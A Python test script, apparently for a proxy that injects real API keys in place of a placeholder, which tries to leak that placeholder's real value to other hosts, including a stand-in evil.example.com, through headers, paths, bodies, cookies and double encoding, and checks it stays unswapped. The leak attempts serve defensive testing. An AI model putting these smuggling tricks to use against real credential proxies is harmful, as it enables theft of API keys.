# SPDX-License-Identifier: Apache-2.0
# Trick: the stand-in of a secret sent to other hosts, in clear, in the path, the body, a
#	name, encoded twice
# Gain: the real one comes out where it can be read
from trick import *

from urllib.parse import quote

look_up("key.example.com")
twice = quote(quote("".join("%%%02x" % c for c in SENTINEL.encode()), safe=""), safe="")
for addr, name in ((API, "api.example.com"), (EVIL, "evil.example.com"), (FLIP, "flip.example.com")):
    for head in (f"x-api-key: {SENTINEL}", basic("me:" + SENTINEL), f"Authorization: Bearer {SENTINEL}"):
        talk(addr, 80, request(name, "/?k=" + SENTINEL, headers=[head]), 0.1)
        over_tls(addr, name, request(name, "/?k=" + SENTINEL, headers=[head]), 0.1)
    if not BARE:
        proxied(f"GET http://{name}/ HTTP/1.1\r\nHost: {name}\r\nx-api-key: {SENTINEL}\r\n\r\n".encode(), 0.2)
        proxied(f"GET http://key.example.com/ HTTP/1.1\r\nHost: {name}\r\nx-api-key: {SENTINEL}\r\n\r\n".encode(), 0.2)
talk(KEY, 80, request("key.example.com", headers=[f"x-api-key: {SENTINEL}"]), 0.2)
for path, head, body in (("/" + SENTINEL, "X: y", b""), ("/x", f"{SENTINEL}: y", b""), ("/x", "X: y", SENTINEL.encode()), ("/?k=" + twice, "X: y", b""),
                         ("/?" + SENTINEL + "=1#" + SENTINEL, "X: y", b""), ("/a%2f" + quote(SENTINEL), "X: y", b""), ("/x", f"Cookie: a={twice}", b""), ("/x", f"Host: {SENTINEL}", b"")):
    over_tls(KEY, "key.example.com", request("key.example.com", path, "POST" if body else "GET", [head], body), 0.15)
over_tls(KEY, "key.example.com", request("key.example.com", method=SENTINEL), 0.15)
stopped("where it isn't granted it stays what it is")
